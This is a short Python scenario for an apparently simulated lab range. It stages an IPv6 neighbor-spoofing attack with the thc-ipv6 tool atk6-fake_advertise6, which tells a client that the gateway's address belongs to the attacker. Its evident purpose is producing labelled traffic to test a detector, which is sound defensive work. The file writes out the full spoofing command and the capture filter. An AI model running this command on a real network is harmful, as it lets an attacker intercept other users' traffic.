"""atk6-fake_advertise6: the gateway's address at another station."""

from lab.range import Range
from lab.scenario import Scenario


def run(net: Range) -> None:
    attacker, client, router = net.inside("attacker"), net.inside("pc3"), net.router()
    www = net.web(net.outside("www"))
    net.everyday(lead=1.0)
    net.loop(client, f"ip -6 neigh flush dev eth0; curl -s -m 2 -o /dev/null -g http://[{www.ip6}]/", 1.5)
    net.quiet(4)
    with net.attack(
        "neighbor-spoofing",
        by=attacker,
        attackers=[attacker.mac],
        victims=[router.ip6],
        others={"claimed": [router.ip6]},
        frames=f"ip6 and ip6[6] == 58 and ip6[40] == 136 and ip6 src host {router.ip6}",
    ):
        net.tool(
            attacker,
            *f"atk6-fake_advertise6 -n 6 -w 1 eth0 {router.ip6} {client.ip6} {attacker.mac}".split(),
            seconds=9,
        )
    net.quiet(4)


SCENARIO = Scenario(
    name="neighbor-spoofing-advertise",
    about="atk6-fake_advertise6 tells a client that the gateway is the attacker, without being asked.",
    detectors=("neighbor-spoofing",),
    tools={"atk6-fake_advertise6": "thc-ipv6"},
    run=run,
)
